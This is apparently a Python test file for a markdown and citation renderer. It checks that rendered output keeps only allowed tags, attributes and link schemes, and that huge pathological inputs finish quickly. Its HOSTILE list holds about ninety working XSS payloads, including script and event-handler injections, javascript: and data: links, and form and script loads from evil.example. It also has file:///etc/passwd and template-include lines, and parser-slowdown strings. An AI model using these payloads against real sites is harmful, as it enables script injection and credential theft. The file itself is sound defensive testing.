"""Hostile text: whatever is typed, no script, no foreign address and no strange element is rendered, in good time."""

from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conditions.content.citations import uses
from conditions.content.markup import LIMIT, CitationLinks, objections, render, visible_text

ATTRIBUTES = {
    "a": {"id", "href"},
    "ol": {"start"},
    "th": {"scope"},
    "sup": {"class"},
    "span": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
    **{tag: set() for tag in ["p", "br", "ul", "li", "strong", "em", "h3", "h4"]},
    **{tag: set() for tag in ["table", "thead", "tbody", "tr", "td"]},
}
ADDRESSES = ("http://", "https://", "mailto:", "tel:", "#ref-")

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<div style='background:url(//evil.example)'>",
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](ftp://evil.example)",
    "[x](feed:javascript:alert(1))",
    '[x](https://a.org "onmouseover=alert(1)")',
    "[x](https://a.org' onmouseover='alert(1))",
    '[x](https://a.org"onmouseover="alert(1))',
    '[x](https://a.org/"><script>alert(1)</script>)',
    "[<img src=x onerror=alert(1)>](https://a.org)",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.org)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[@a]: javascript:alert(1)\n\n[@a]",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    '[@a"onmouseover=alert(1)]',
    '[@a, "><img src=x onerror=alert(1)>]',
    "[@a, ' onclick='alert(1)]",
    "[@a, &lt;script&gt;]",
    "[@<script>]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|x|\n|:-:" style="x|\n|y|',
    "### <script>alert(1)</script>",
    "- <script>alert(1)</script>\n  - [x](javascript:alert(1))",
    "**<script>**alert(1)**</script>**",
    "<scr**ipt>alert(1)</scr**ipt>",
    "```<script>\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "<p id=ref-a class=cite>",
    "a\u2028<script>\u2029alert(1)</script>",
]


class Elements(HTMLParser):
    """Every element of some HTML with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"A comment was rendered: {data}")


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ATTRIBUTES, html
        assert set(attributes) <= ATTRIBUTES[tag], html
        address = attributes.get("href")
        assert not address or address.lower().startswith(ADDRESSES), html


def rendered(text: str) -> str:
    return render(text, CitationLinks({use.key: number for number, use in enumerate(uses(text), start=1)}))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_renders_nothing_but_the_subset(text: str) -> None:
    assert_harmless(rendered(text))


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("<") and "**" not in text])
def test_raw_html_is_shown_and_not_obeyed(text: str) -> None:
    assert "".join(visible_text(text).split()) == "".join(text.split())


FRAGMENTS = [
    *HOSTILE,
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "[@",
        "@a",
        ";",
        "!",
        "*",
        "**",
        "_",
        "|",
        "\n|-|\n",
        "\n- ",
        "\n1. ",
        "\n\n",
        "<",
        ">",
    ),
    *('"', "'", "&", "\\", "javascript:", "https://a.org", " onclick=", "\n### ", "`", "~", "\u00a0", "  "),
]


@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=12).map("".join))
def test_no_mixture_of_hostile_fragments_renders_anything_but_the_subset(text: str) -> None:
    assert_harmless(rendered(text))


def repeated(fragment: str) -> str:
    return (fragment * LIMIT)[:LIMIT]


SLOW = {
    **{
        fragment: repeated(fragment)
        for fragment in (
            *(
                "[",
                "]",
                "![",
                "[[a]",
                "[@",
                "[@a;",
                "[@a]",
                "[a](",
                "[](",
                "](",
                "(",
                "[x](a:",
                "[ ",
                "\\[",
                "\\",
                "\\*",
            ),
            *("*", "*a ", "**a*", "***a", "*a_ ", "a*b_", "_", "_a ", "*_", "a*", "**a**b", "|", "|a\n|-\n", "a\n|-\n"),
            *(
                "<",
                "<b",
                "<b ",
                "<a ",
                "<!--",
                "&",
                "#",
                "# a\n",
                "`",
                "- ",
                "> ",
                "1. ",
                "1. a\n",
                "- a\n  ",
                "\n",
                " ",
                "\t",
            ),
        )
    },
    "nested brackets": "[" * 25_000 + "]" * 25_000,
    "nested links": "[a" * 8_000 + "](http://a)" * 3_000,
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(200)),
    "stars on both sides": "*" * 25_000 + "a" + "*" * 24_000,
    "wide table": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "x\n" * 15_000,
    "blank citation": "[" + " " * 49_000 + "@",
    "dotted key": "[@a" + "." * 49_000 + "]",
    "long locator": "[@a, " + "1 " * 20_000 + "]",
}


@pytest.mark.parametrize("name", SLOW)
def test_fifty_thousand_hostile_characters_are_judged_in_good_time(name: str) -> None:
    started = process_time()
    objections(SLOW[name][:LIMIT])
    assert process_time() - started < 5, "Each takes less than 1 s on an idle machine."
